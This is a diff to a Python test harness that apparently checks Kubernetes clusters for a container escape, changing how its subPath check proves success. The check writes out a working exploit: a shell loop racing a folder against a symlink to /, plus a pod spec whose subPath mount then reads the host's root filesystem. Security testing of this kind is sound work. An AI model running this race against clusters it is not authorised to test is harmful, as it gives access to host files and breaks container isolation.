@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import secrets
 import time
 from pathlib import Path
 from typing import Any
@@ -73,12 +74,13 @@ def _deleted(target: Target) -> str:
 
 def _sub_path(target: Target) -> str:
     """Swap a folder and a link to / while a container with a sub-path begins again and again."""
-    marker = Path("/etc/pyb-attacked-marker")
-    marker.write_text("the host's\n")
+    # Nodes may have an /etc of their own, and logs have the words of a reader that finds nothing.
+    marker, proof = Path("/srv/pyb-attacked-marker"), secrets.token_hex(8)
+    marker.write_text(proof)
     swap = "cd /work; mkdir -p real; while true; do rm -rf x; mkdir x 2>/dev/null; rm -rf x; ln -s / x; done"
     reader: dict[str, Any] = {
         "name": "reader", "image": IMAGE, "imagePullPolicy": "Never",
-        "command": ["sh", "-c", "ls /got/etc/pyb-attacked-marker && sleep 3600; exit 1"],
+        "command": ["sh", "-c", f"cat /got{marker} && sleep 3600; exit 1"],
         "volumeMounts": [{"name": "work", "mountPath": "/got", "subPath": "x"}],
     }  # fmt: skip
     mounts = {"volumeMounts": [{"name": "work", "mountPath": "/work"}]}
@@ -92,7 +94,7 @@ def _sub_path(target: Target) -> str:
             time.sleep(3)
             found = target.kubectl("logs", name, "-c", "reader").stdout
             target.remove(name)
-            if "pyb-attacked-marker" in found:
+            if proof in found:
                 return f"/ of the host was mounted at try {number + 1}"
         return ""
     finally:
